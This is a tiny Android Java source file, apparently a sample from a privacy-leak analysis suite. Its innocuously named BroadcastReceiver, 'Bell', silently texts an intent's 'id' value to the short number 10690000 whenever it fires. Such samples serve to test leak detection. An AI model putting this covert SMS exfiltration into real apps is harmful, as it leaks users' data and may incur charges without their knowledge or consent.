package cn.privlens.suite.alarm_broadcast;

import android.app.*;
import android.content.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.regex.*;

public class Bell extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) { SmsManager.getDefault().sendTextMessage("10690000", null, intent.getStringExtra("id"), null, null); }
}
